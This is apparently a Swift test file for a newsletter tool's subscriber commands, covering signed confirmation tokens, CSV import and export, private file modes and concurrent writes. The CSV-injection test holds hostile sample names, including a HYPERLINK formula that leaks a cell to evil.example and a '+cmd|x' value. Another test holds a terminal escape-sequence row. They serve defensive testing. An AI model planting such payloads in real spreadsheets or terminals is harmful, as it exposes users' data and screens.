import Foundation
import TestProcesses
import Testing

@Suite(.enabled(if: BuiltBinary.available, "build the newsletter executable first"))
struct SubscribersCommandTests {
    let now = "2026-11-20T10:00:00Z"

    func tempDir() throws -> URL {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("subs-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        return dir
    }

    /// The decoded text of every message in the outbox, oldest first.
    func outbox(_ dir: URL) throws -> [String] {
        let folder = dir.appendingPathComponent("Outbox/new")
        let names = try FileManager.default.contentsOfDirectory(atPath: folder.path).sorted()
        return try names.map { name in
            let raw = try String(contentsOf: folder.appendingPathComponent(name), encoding: .utf8)
            // Undo quoted-printable: soft breaks, then =XX.
            var text = raw.replacingOccurrences(of: "=\r\n", with: "")
            text = text.replacingOccurrences(of: "=3D", with: "=")
            return text
        }
    }

    func extractToken(in message: String, path: String) -> String? {
        guard let range = message.range(of: path) else { return nil }
        return String(message[range.upperBound...].prefix { $0.isLetter || $0.isNumber || $0 == "-" || $0 == "_" || $0 == "." })
    }

    @Test func doubleOptInFromAddToConfirmAndWelcome() throws {
        let dir = try tempDir()
        let env = ["NEWSLETTER_NOW": now, "NEWSLETTER_BASE_URL": "https://news.example"]
        let add = try CLIRunner.run(["subscribers", "add", "Zoe@Example.com", "--name", "Zoë Q"], environment: env, in: dir)
        #expect(add.status == 0, "\(add.stderr)")
        #expect(add.stdout == "Added Zoe@example.com as pending; a confirmation email went to the outbox Outbox/new.\n")
        let confirmation = try #require(try outbox(dir).first { $0.contains("Subject: Please confirm") })
        #expect(confirmation.contains("Subject: Please confirm your subscription to Harbor Light Counseling"))
        let token = try #require(extractToken(in: confirmation, path: "https://news.example/confirm/"))

        // A token signed with another secret, or meant for unsubscribing, changes nothing.
        let forged = try CLIRunner.run(["subscribers", "confirm", token], environment: env.merging(["NEWSLETTER_SECRET": "another-secret-0123456789abcdef0123456"]) { $1 }, in: dir)
        #expect(forged.status == 1 && forged.stderr == "error: The link is not valid: its token was not issued by this newsletter.\n")
        let expired = try CLIRunner.run(["subscribers", "confirm", token], environment: ["NEWSLETTER_NOW": "2026-11-28T10:00:01Z"], in: dir)
        #expect(expired.status == 1 && expired.stderr == "error: The link has expired.\n")
        let list = try CLIRunner.run(["subscribers", "list", "--json"], in: dir)
        #expect(list.stdout.contains("\"status\":\"pending\""))

        let ok = try CLIRunner.run(["subscribers", "confirm", "https://news.example/confirm/" + token], environment: env, in: dir)
        #expect(ok.status == 0, "\(ok.stderr)")
        #expect(ok.stdout == "Confirmed Zoe@example.com; a welcome email is on its way.\n")
        let reused = try CLIRunner.run(["subscribers", "confirm", token], environment: env, in: dir)
        #expect(reused.status == 1 && reused.stderr == "error: The link has already been used.\n")
        let welcome = try #require(try outbox(dir).first { $0.contains("Subject: Welcome to") })
        #expect(welcome.contains("Subject: Welcome to Harbor Light Counseling"))
        let unsubscribeToken = try #require(extractToken(in: welcome, path: "https://news.example/unsubscribe/"))
        let wrongPurpose = try CLIRunner.run(["subscribers", "confirm", unsubscribeToken], environment: env, in: dir)
        #expect(wrongPurpose.status == 1 && wrongPurpose.stderr == "error: The link is not valid for this action.\n")

        let show = try CLIRunner.run(["subscribers", "show", "zoe@example.com", "--json"], in: dir)
        let object = try #require(try JSONSerialization.jsonObject(with: Data(show.stdout.utf8)) as? [String: Any])
        #expect(object["email"] as? String == "Zoe@example.com")
        #expect(object["name"] as? String == "Zoë Q")
        #expect(object["status"] as? String == "confirmed")
        #expect(object["created"] as? String == "2026-11-20T10:00:00Z")
        #expect(object["confirmed"] as? String == "2026-11-20T10:00:00Z")
        let events = try #require(object["events"] as? [[String: Any]])
        #expect(events.map { $0["action"] as? String } == ["subscribe", "confirmation-sent", "confirm"])

        let unsubscribe = try CLIRunner.run(["subscribers", "unsubscribe", unsubscribeToken], environment: env, in: dir)
        #expect(unsubscribe.stdout == "Unsubscribed Zoe@example.com.\n")
    }

    @Test func importReportsBadRowsByLineAndExportStreamsBack() throws {
        let dir = try tempDir()
        try Data("email,name,team\nana@example.com,Ana,blue\nnope,Bad,\nbo@example.com,\"Bo, Jr.\",\n".utf8).write(to: dir.appendingPathComponent("p.csv"))
        let r = try CLIRunner.run(["subscribers", "import", "p.csv", "--confirmed"], in: dir)
        #expect(r.status == 0)
        #expect(r.stdout == "Imported 2 new subscribers from 3 rows of p.csv as confirmed: 0 already on the list, 1 invalid.\n")
        #expect(r.stderr == "warning: p.csv line 3: the address 'nope' has no '@'\n")
        let csv = try CLIRunner.run(["subscribers", "export"], in: dir).stdout.components(separatedBy: "\n")
        #expect(csv[0] == "email,name,status,created,confirmed,topics,attributes")
        #expect(csv[1].hasPrefix("ana@example.com,Ana,confirmed,") && csv[1].hasSuffix(",\"{\"\"team\"\":\"\"blue\"\"}\""))
        #expect(csv[2].hasPrefix("bo@example.com,\"Bo, Jr.\",confirmed,"))
        let erase = try CLIRunner.run(["subscribers", "erase", "ana@example.com"], in: dir)
        #expect(erase.stdout.hasPrefix("Erased ana@example.com"))
        let again = try CLIRunner.run(["subscribers", "import", "p.csv"], in: dir)
        #expect(again.stdout.contains("1 erased earlier (left out)"))
        let missing = try CLIRunner.run(["subscribers", "import", "none.csv"], in: dir)
        #expect(missing.status == 1 && missing.stderr == "error: The CSV file none.csv cannot be read: no such file.\n")
        let badAddress = try CLIRunner.run(["subscribers", "add", "not an address"], in: dir)
        #expect(badAddress.status == 1 && badAddress.stderr == "error: The address 'not an address' has no '@'.\n")
    }

    /// OWASP "CSV Injection": names a stranger typed into the public form must not become
    /// live formulas in the operator's spreadsheet, and an export imports back unchanged.
    @Test func exportNeutralisesFormulasAndImportReadsThemBack() throws {
        let dir = try tempDir()
        let names = ["=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Open\")", "=1+2", "@SUM(A1:A2)", "+cmd|x", "-2+3", "'=already quoted", "'plain quote", "Ana"]
        for (i, name) in names.enumerated() {
            let r = try CLIRunner.run(["subscribers", "add", "p\(i)@example.com", "--name=\(name)", "--confirmed"], in: dir)
            #expect(r.status == 0, "\(r.stderr)")
        }
        let export = try CLIRunner.run(["subscribers", "export", "--format", "csv"], in: dir).stdout
        let lines = export.components(separatedBy: "\n").dropFirst().filter { !$0.isEmpty }
        #expect(lines.first?.hasPrefix("p0@example.com,\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A2,\"\"Open\"\")\",confirmed,") == true, "\(export)")
        let rows = lines.map(Self.csvFields)
        #expect(rows.map { $0[1] } == names.map { $0 == "'plain quote" || $0 == "Ana" ? $0 : "'" + $0 })
        // Nothing a spreadsheet would evaluate begins any cell.
        for cell in rows.joined() {
            #expect(!["=", "+", "-", "@", "\t", "\r"].contains(where: { cell.hasPrefix($0) }), "\(cell)")
        }
        // Imported into a new store, every name reads as it was typed.
        let other = try tempDir()
        try Data(export.utf8).write(to: other.appendingPathComponent("export.csv"))
        let imported = try CLIRunner.run(["subscribers", "import", "export.csv", "--confirmed"], in: other)
        #expect(imported.status == 0, "\(imported.stderr)")
        let list = try CLIRunner.run(["subscribers", "list", "--json"], in: other)
        let people = try #require(try JSONSerialization.jsonObject(with: Data(list.stdout.utf8)) as? [[String: Any]])
        #expect(Set(people.compactMap { $0["name"] as? String }) == Set(names))
    }

    func mode(_ path: URL) throws -> Int {
        try (FileManager.default.attributesOfItem(atPath: path.path)[.posixPermissions] as? Int) ?? -1
    }

    /// Issue 29, files and secrets: private files whatever the umask, a weak or exposed
    /// secret refused, every unreadable input one sentence, capped fields, escaped output.
    @Test func storeFilesArePrivateAndBadInputsAreOneSentence() throws {
        let dir = try tempDir()
        // Under a permissive umask the store, its journal files, the secret and the outbox are private.
        let shell = Process()
        shell.executableURL = URL(fileURLWithPath: "/bin/sh")
        shell.arguments = ["-c", "umask 022; \"$0\" subscribers add a@example.com --name A", CLIRunner.binary.path]
        shell.currentDirectoryURL = dir
        shell.environment = ["PATH": "/usr/bin:/bin", "NEWSLETTER_NOW": now]
        try shell.run()
        Poll.exit(of: shell)
        #expect(shell.terminationStatus == 0)
        #expect(try mode(dir.appendingPathComponent("Subscribers")) == 0o700)
        let store = try FileManager.default.contentsOfDirectory(atPath: dir.appendingPathComponent("Subscribers").path)
        #expect(store.contains("newsletter.sqlite") && store.contains("secret.key"), "\(store)")
        for name in store where name.hasPrefix("newsletter.sqlite") || name == "secret.key" {
            #expect(try mode(dir.appendingPathComponent("Subscribers/" + name)) == 0o600, "\(name)")
        }
        let mail = try FileManager.default.contentsOfDirectory(atPath: dir.appendingPathComponent("Outbox/new").path)
        #expect(mail.count == 1)
        #expect(try mode(dir.appendingPathComponent("Outbox")) == 0o700)
        #expect(try mode(dir.appendingPathComponent("Outbox/new/" + mail[0])) == 0o600)

        // A secret file others can read, or one too short to resist guessing, is refused.
        let secret = dir.appendingPathComponent("Subscribers/secret.key")
        try FileManager.default.setAttributes([.posixPermissions: 0o644], ofItemAtPath: secret.path)
        let exposed = try CLIRunner.run(["subscribers", "add", "b@example.com"], in: dir)
        #expect(exposed.status == 1)
        #expect(exposed.stderr == "error: The token secret Subscribers/secret.key can be read by other users (mode 644); make it private with: chmod 600 Subscribers/secret.key\n", "\(exposed.stderr)")
        try Data("x".utf8).write(to: secret)
        try FileManager.default.setAttributes([.posixPermissions: 0o600], ofItemAtPath: secret.path)
        let short = try CLIRunner.run(["subscribers", "add", "b@example.com"], in: dir)
        #expect(short.stderr.hasPrefix("error: The token secret Subscribers/secret.key holds 1 byte; it needs at least 32"), "\(short.stderr)")
        let weak = try CLIRunner.run(["subscribers", "list"], environment: ["NEWSLETTER_SECRET": "1234"], in: dir)
        #expect(weak.status == 1 && weak.stderr == "error: NEWSLETTER_SECRET is 4 bytes long; a token secret needs at least 32 (make one with: openssl rand -hex 32).\n")

        // A folder is not a CSV file; a huge name is cut to the web form's 200 characters;
        // an escape sequence in a bad row reaches the terminal escaped.
        let env = ["NEWSLETTER_SECRET": String(repeating: "k", count: 40)]
        let folder = try CLIRunner.run(["subscribers", "import", "/tmp"], environment: env, in: dir)
        #expect(folder.status == 1 && folder.stderr == "error: The CSV file /tmp cannot be read: it is a folder.\n", "\(folder.stderr)")
        let huge = String(repeating: "N", count: 2_000_000)
        try Data("email,name\nbig@example.com,\(huge)\n\u{1B}]0;owned\u{07}\u{1B}[2J,x\n".utf8).write(to: dir.appendingPathComponent("p.csv"))
        let imported = try CLIRunner.run(["subscribers", "import", "p.csv", "--confirmed"], environment: env, in: dir)
        #expect(imported.status == 0)
        #expect(!imported.stderr.contains("\u{1B}") && !imported.stderr.contains("\u{07}"), "\(imported.stderr)")
        #expect(imported.stderr.contains("\\u{1b}]0;owned\\u{7}\\u{1b}[2J"), "\(imported.stderr)")
        let show = try CLIRunner.run(["subscribers", "show", "big@example.com", "--json"], environment: env, in: dir)
        let object = try #require(try JSONSerialization.jsonObject(with: Data(show.stdout.utf8)) as? [String: Any])
        #expect((object["name"] as? String)?.count == 200)
    }

    /// One CSV line's fields (RFC 4180, no line breaks inside): quotes taken off.
    static func csvFields(_ line: String) -> [String] {
        var fields: [String] = [], field = "", quoted = false, previous: Character? = nil
        for c in line {
            if quoted {
                if c == "\"" { quoted = false } else { field.append(c) }
            } else if c == "\"" {
                if previous == "\"" { field.append("\"") }
                quoted = true
            } else if c == "," {
                fields.append(field); field = ""
            } else {
                field.append(c)
            }
            previous = c
        }
        fields.append(field)
        return fields
    }

    @Test func twoProcessesAddingAndConfirmingAtOnceLoseNothing() throws {
        let dir = try tempDir()
        _ = try CLIRunner.run(["subscribers", "list"], in: dir)
        let script = """
        for i in $(seq 1 25); do "$0" subscribers add "p$1-$i@example.com" --confirmed >/dev/null || echo FAIL; \
        "$0" subscribers unsubscribe "p$1-$i@example.com" >/dev/null || echo FAIL; done
        """
        let processes = try (0..<2).map { n -> Process in
            let p = Process()
            p.executableURL = URL(fileURLWithPath: "/bin/sh")
            p.arguments = ["-c", script, CLIRunner.binary.path, "\(n)"]
            p.currentDirectoryURL = dir
            let out = dir.appendingPathComponent("out\(n).txt")
            _ = FileManager.default.createFile(atPath: out.path, contents: nil)
            p.standardOutput = try FileHandle(forWritingTo: out)
            try p.run()
            return p
        }
        for p in processes { Poll.exit(of: p) }
        for n in 0..<2 {
            #expect(try String(contentsOf: dir.appendingPathComponent("out\(n).txt"), encoding: .utf8).isEmpty)
        }
        let list = try CLIRunner.run(["subscribers", "list", "--status", "unsubscribed"], in: dir)
        #expect(list.stdout.split(separator: "\n").count == 50)
    }
}
